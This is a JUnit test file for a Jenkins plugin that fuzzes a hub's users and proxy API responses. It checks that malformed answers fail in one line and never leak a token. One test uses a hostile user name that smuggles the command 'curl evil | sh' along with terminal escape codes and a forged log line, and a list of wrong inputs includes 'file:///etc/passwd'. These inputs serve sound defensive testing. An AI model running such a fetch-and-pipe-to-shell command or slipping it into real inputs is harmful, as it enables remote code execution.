package io.jenkins.plugins.prepullgate.hub;

import static io.jenkins.plugins.prepullgate.faults.Mutations.mutated;
import static io.jenkins.plugins.prepullgate.faults.Mutations.oneOf;
import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.prepullgate.cluster.ConnectionException;
import io.jenkins.plugins.prepullgate.faults.Mutations;
import io.jenkins.plugins.prepullgate.hub.ScriptedHub.Reply;
import io.jenkins.plugins.prepullgate.report.HubReport;
import java.time.Duration;
import java.time.InstantSource;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.Rule;
import org.junit.Test;

/** What a hub tells of its users and its proxy, mutated: understood, or a failure in one line. */
public class MutatedHubTest {
    private static final Duration SHORT = Duration.ofMillis(150);
    private static final HubWait.Pauses QUICK = new HubWait.Pauses(Duration.ofMillis(20), Duration.ofMillis(20), Duration.ofMillis(20));
    private static final Pattern VALUE = Pattern.compile(": (\"[^\"]*\"|null|true|false|\\d+)|: ?(\\{\\}|\\[\\])");
    private static final String[] WRONG = {
        "7", "-1e999", "true", "[]", "{}", "null", "\"\"", "[[[1]]]", "{\"a\": {\"b\": 1}}", "\"\\u0000\\u001b[2J\\n\\u202e\"",
        "99999999999999999999", "\"ht tp://[::x/\"", "\"http://\"", "\"file:///etc/passwd\"", "\"//\"", "\"/user/%zz/\"", "\"mailto:a@b.test\""
    };

    @Rule
    public final ScriptedHub hub = new ScriptedHub();

    private static String broken(String json, Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> json.substring(0, random.nextInt(json.length()));
            case 1 -> "[".repeat(100_000);
            case 2, 3 -> otherType(json, random);
            default -> mutated(json, random);
        };
    }

    /** Some value becomes something else. */
    private static String otherType(String json, Random random) {
        int at = random.nextInt(json.length());
        Matcher value = VALUE.matcher(json);
        return value.find(at) ? json.substring(0, value.start()) + ": " + oneOf(random, WRONG) + json.substring(value.end()) : oneOf(random, WRONG);
    }

    private void script(Random random) {
        boolean old = random.nextBoolean();
        String users = ScriptedHub.recorded(old ? "users-1.5.1.json" : "users-5.5.4.json");
        String routes = ScriptedHub.recorded("proxy-1.5.1.json");
        boolean both = random.nextBoolean();
        String toldUsers = both || random.nextBoolean() ? broken(users, random) : users;
        String toldRoutes = both || toldUsers.equals(users) ? broken(routes, random) : routes;
        hub.on("/hub/api/users", (method, path, body) -> Reply.json(toldUsers));
        hub.on("/hub/api/proxy", (method, path, body) -> Reply.json(toldRoutes));
        hub.on("/user/", (method, path, body) -> Reply.json("{}"));
    }

    private static void assertLine(HubProgress told) {
        assertLine(HubReport.progress(told));
    }

    private static void assertLine(String line) {
        Mutations.assertOneLine(line);
        assertThat(line).hasSizeLessThan(5_000).doesNotContain("secret-token");
    }

    @Test
    public void hostileNamesStayNamesAndAreNoPartOfACommand() throws Exception {
        String name = "jane; curl evil | sh #\\u001b[2J\\u0007\\u202e\\n[prepull] HUB WAIT PASSED: ";
        for (String hostile : List.of(name, "x".repeat(1 << 20))) {
            hub.on("/hub/api/users", (method, path, body) -> Reply.json(
                    "[{\"name\": \"" + hostile + "\", \"servers\": {\"\": {\"ready\": true, \"pending\": null, \"url\": \"/user/jane/\"}}}]"));
            hub.on("/hub/api/proxy", (method, path, body) -> Reply.json("{}"));
            hub.on("/user/", (method, path, body) -> Reply.of(503, ""));

            HubWaitResult result = HubWait.run(
                    hub.client(), HubWaitSpec.DEFAULT.withBudget(Duration.ofSeconds(30)), QUICK, InstantSource.system(), null,
                    MutatedHubTest::assertLine);

            assertThat(result.passed()).isFalse();
            HubReport.lines(result).forEach(MutatedHubTest::assertLine);
            assertThat(result.findings())
                    .isNotEmpty()
                    .allSatisfy(finding -> assertThat(finding.remedy()).doesNotContain("curl").hasSizeLessThan(500));
        }
    }

    @Test
    public void aMutatedAnswerIsUnderstoodOrFailsInOneLine() {
        Mutations.each(40, (seed, random) -> {
            script(random);
            HubApi api = new HubApi(hub.client(), new Budget(SHORT));
            try {
                HubSurvey survey = HubSurvey.take(api);
                survey.missing().forEach(route -> assertThat(route.named()).isNotNull());
                survey.stale().forEach(route -> assertThat(route.named()).isNotNull());
            } catch (ConnectionException e) {
                Mutations.assertOneLine(e.getMessage());
                assertThat(e).hasMessageStartingWith("hub ").hasMessageNotContaining("secret-token");
            }
        });
    }

    @Test
    public void aWaitForSuchAHubEndsWithAResultOrInOneLine() {
        Mutations.each(20, (seed, random) -> {
            script(random);
            try {
                HubWaitResult result =
                        HubWait.run(hub.client(), HubWaitSpec.DEFAULT.withBudget(SHORT), QUICK, InstantSource.system(), null,
                                MutatedHubTest::assertLine);
                HubReport.lines(result).forEach(MutatedHubTest::assertLine);
            } catch (ConnectionException e) {
                Mutations.assertOneLine(e.getMessage());
                assertThat(e).hasMessageNotContaining("secret-token");
            }
        });
    }
}
